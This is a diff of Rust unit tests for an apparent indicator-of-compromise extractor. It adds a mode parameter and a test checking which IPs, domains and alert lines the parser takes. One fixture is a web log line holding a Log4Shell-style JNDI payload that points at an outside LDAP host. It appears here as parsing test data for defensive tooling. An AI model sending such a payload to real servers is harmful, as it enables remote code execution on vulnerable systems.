@@ -91,7 +91,7 @@ fn a_line_of_keys_and_values_gives_all_that_it_names() {
 #[test]
 fn what_else_a_line_names_is_taken_and_what_a_remark_names_is_counted() {
     let named = |text: &str| {
-        let list = read(text);
+        let list = read(text, Taking::All);
         (list.entries.into_iter().map(|entry| entry.text).collect::<Vec<_>>(), list.beside)
     };
     let log = "203.0.113.7 - - [27/Nov/2026:10:00:00 +0000] \"GET /?x=${jndi:ldap://198.51.100.8:1389/a} HTTP/1.1\" 200 0 \"-\" \"Mozilla/5.0 (X11; Linux; rv:1)\"";
@@ -132,6 +132,19 @@ fn what_else_a_line_names_is_taken_and_what_a_remark_names_is_counted() {
     assert_eq!(named("ip,comment\n203.0.113.7,with evil.com and evil.com"), (vec!["203.0.113.7".into()], 1));
     assert_eq!(named("evil.com # with evil-b.com\nevil-b.com"), (vec!["evil.com".into(), "evil-b.com".into()], 0));
     assert_eq!(named(&format!("{MD5}  evil.com and others.txt")), (vec![MD5.into()], 0), "the name of a file");
+}
+
+#[test]
+fn what_changes_something_takes_what_is_listed_and_nothing_out_of_sentences_and_alerts() {
+    let listed = |text: &str| {
+        let list = read(text, Taking::Listed);
+        (list.entries.into_iter().map(|entry| entry.text).collect::<Vec<_>>(), list.beside)
+    };
+    assert_eq!(listed("evil.com resolved to 203.0.113.7"), (vec!["evil.com".into()], 1));
+    assert_eq!(listed("203.0.113.7,evil.com"), (vec!["203.0.113.7".into(), "evil.com".into()], 0));
+    for alert in [r#"{"user":"bob@contoso.com","ip":"203.0.113.7"}"#, "user=bob,src=203.0.113.7"] {
+        assert_eq!(listed(alert), (vec![alert.to_owned()], 0));
+    }
 }
 
 #[test]
